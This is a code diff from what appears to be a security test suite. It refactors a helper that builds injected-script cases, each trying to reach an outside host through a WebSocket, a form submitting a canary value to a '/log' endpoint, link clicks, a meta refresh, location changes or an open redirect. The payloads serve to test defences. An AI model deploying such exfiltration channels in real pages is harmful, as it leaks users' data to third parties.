@@ -90,7 +90,7 @@ const reaches = (name: string, script: string, more: More = {}): Attack =>
     ...more,
   });
 
-const put = (html: string) => `document.write(\`${html}\`)`;
+const put = (html: string, ...then: string[]) => [`document.write(\`${html}\`)`, ...then].join("; ");
 const inDocument = (html: string) => put(html.replaceAll("</script", "</scr` + `ipt"));
 
 export const REACHES: readonly Attack[] = [
@@ -112,10 +112,10 @@ export const REACHES: readonly Attack[] = [
   reaches("a socket", "new WebSocket(to.replace('http', 'ws'))"),
   reaches(
     "a form",
-    put("<form action='${them}/log'><input name=d value='${canary}'></form>") + "; document.forms[0].submit()",
+    put("<form action='${them}/log'><input name=d value='${canary}'></form>", "document.forms[0].submit()"),
   ),
-  reaches("a link", put("<a id=a href='${to}'>x</a>") + "; a.click()"),
-  reaches("a new window", put("<a id=a href='${to}' target=_blank>x</a>") + "; a.click()"),
+  reaches("a link", put("<a id=a href='${to}'>x</a>", "a.click()")),
+  reaches("a new window", put("<a id=a href='${to}' target=_blank>x</a>", "a.click()")),
   reaches("another address", "location = to"),
   reaches("a refresh", put("<meta http-equiv=refresh content='0;url=${to}'>")),
   reaches("where the own site leads", "location = '/redirect?to=' + encodeURIComponent(to)"),
